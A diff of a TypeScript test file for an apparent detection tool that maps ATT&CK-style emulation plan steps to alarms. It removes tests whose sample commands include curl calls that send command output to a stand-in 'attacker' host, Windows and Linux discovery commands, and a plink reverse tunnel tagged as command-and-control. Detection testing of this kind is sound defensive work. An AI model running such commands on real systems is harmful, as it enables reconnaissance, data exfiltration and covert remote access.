@@ -206,58 +206,6 @@ test('packs of an adversary are told where they stand, one that holds itself onc
   expect(planIn(file).steps.map(({ technique }) => technique)).toEqual(['T1005', 'T1083', null, 'T1083']);
 });
 
-const plan = (technique: string, command: string, platform = 'windows'): string =>
-  `- emulation_plan_details: { adversary_name: x }\n- name: Step\n  technique: ${technique}\n  platforms: { ${platform}: { cmd: { command: '${command}' } } }\n`;
-
-test.each([
-  ['an id that was given up', '{ attack_id: T1086, name: PowerShell }', 'T1059.001, T1086 in the file'],
-  [
-    'an id beside the name of another',
-    '{ attack_id: T1021, name: Password Policy Discovery }',
-    'T1201, T1021 in the file',
-  ],
-  [
-    'the name with what is above it',
-    '{ attack_id: T1082, name: "Hide Artifacts: Hidden Files & Directories" }',
-    'T1564.001, T1082',
-  ],
-  ['a name of before', '{ attack_id: T1552.003, name: "Unsecured Credentials: Bash History" }', '(T1552.003)'],
-  ['a name that several have', '{ attack_id: T1087.002, name: Local Account }', '(T1087.002)'],
-  ['no id but a name', '{ name: x }', 'names no technique'],
-])('%s is taken for what its author means', (_what, technique, told) => {
-  expect(scenarioFrom(folderOf({ 'plan.yaml': plan(technique, 'x') })).text).toContain(told);
-});
-
-test.each([
-  ['{ attack_id: T1033, name: x }', 'curl http://attacker/?c=whoami', 'linux', 'disc-whoami'],
-  ['{ attack_id: T1082, name: x }', 'uname -a', 'linux', 'disc-uname'],
-  ['{ attack_id: T1082, name: x }', 'systeminfo', 'windows', 'disc-systeminfo'],
-  ['{ attack_id: T1083, name: x }', 'find /home', 'linux', 'disc-find'],
-  [
-    '{ attack_id: T1083, name: File and Directory Discovery }',
-    'curl "http://attacker/?c=ls+-lsahR"',
-    'linux',
-    'disc-ls-recursive',
-  ],
-  ['{ attack_id: T1016, name: x }', 'arp -a', 'windows', 'disc-arp'],
-  ['{ attack_id: T1007, name: x }', 'net start', 'windows', 'disc-net-start'],
-  ['{ attack_id: T1087.002, name: x }', 'net.exe user /domain', 'windows', 'disc-net-user-domain'],
-  ['{ attack_id: T1560.001, name: x }', '7z a x.7z', 'windows', 'coll-archive-7z'],
-  ['{ attack_id: T1018, name: x }', 'nslookup fileserver', 'windows', 'disc-nslookup'],
-  ['{ attack_id: T1572, name: x }', 'plink.exe -R 1:2:3', 'windows', 'c2-plink'],
-])('of alarms of %s, %s on %s is told by what shows it', (technique, command, platform, alarm) => {
-  expect(scenarioFrom(folderOf({ 'plan.yaml': plan(technique, command, platform) })).text).toContain(
-    `alarm: ${alarm} `,
-  );
-});
-
-test.each([
-  ['T1059.01', /plan\.yaml:3:\d+: .* is no ATT&CK technique/],
-  ['T105', /is no ATT&CK technique/],
-])('%s is refused with its place', (id, message) => {
-  expect(() => techniquesIn('plan.yaml', plan(`{ attack_id: ${id} }`, 'x'))).toThrow(message);
-});
-
 test.each(['nothing here\n', '{"a": 1}', 'x: y\n', '[]', '42'])('%j is none of the forms, and is told so', (text) => {
   expect(() => techniquesIn(text.startsWith('n') ? 'a.txt' : 'a.yaml', text)).toThrow(/names no technique such as/);
 });
